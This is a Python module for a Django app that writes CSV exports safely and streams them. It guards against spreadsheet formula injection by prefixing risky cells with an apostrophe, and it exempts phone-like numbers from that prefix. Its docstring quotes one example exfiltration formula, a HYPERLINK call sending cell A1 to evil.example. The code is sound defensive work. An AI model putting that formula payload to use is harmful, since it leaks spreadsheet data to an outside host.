"""CSV files for spreadsheets: the one writer every export uses, so no cell is ever a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and
some strip a leading tab or carriage return first): a session reference set through the API as
`=HYPERLINK("http://evil.example/?x="&A1,"open")` would run in the analyst's spreadsheet. Such a
cell is written with a leading apostrophe (OWASP's advice), which spreadsheets show as text.

Decision: a cell made only of a sign, digits, spaces, dots and the masking bullet ("+6591230001",
"+65 9123 ••01", "-3") is left as it is. It holds no letter, parenthesis, reference, operator
chain or `|`, so no function, link or DDE call can be formed from it: the worst a spreadsheet
does is read it as a number. Quoting every phone number would make every export's numbers read
"'+6591230001" for no safety gained.
"""

import csv
import re
from collections.abc import Iterable

from django.http import StreamingHttpResponse

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
_INERT = re.compile(r"[+-]?[0-9][0-9 .•]*")


def neutralised(value):
    """`value` as a spreadsheet may safely read it (non-text values unchanged)."""
    if not isinstance(value, str) or not value.startswith(DANGEROUS_START):
        return value
    if _INERT.fullmatch(value):
        return value
    return "'" + value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([neutralised(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _SafeWriter:
    """`csv.writer(stream)` whose every cell passes `neutralised`."""
    return _SafeWriter(csv.writer(stream, **options))


class _Echo:
    """A file whose `write` hands the line back, so each row is yielded, not kept."""

    def write(self, value):
        return value


# Rows a yield: one write to the socket per few hundred lines, not one per line.
LINES_A_CHUNK = 500


def csv_stream(*, filename: str, header: list[str], rows: Iterable[list]) -> StreamingHttpResponse:
    """A CSV download written while it is read: memory stays that of one chunk of rows whatever
    the export's length (pass a `QuerySet.iterator(chunk_size=...)` as the rows' source)."""
    writer = csv_writer(_Echo())

    def lines():
        chunk = [writer.writerow(header)]
        for row in rows:
            chunk.append(writer.writerow(row))
            if len(chunk) >= LINES_A_CHUNK:
                yield "".join(chunk)
                chunk = []
        if chunk:
            yield "".join(chunk)

    response = StreamingHttpResponse(lines(), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
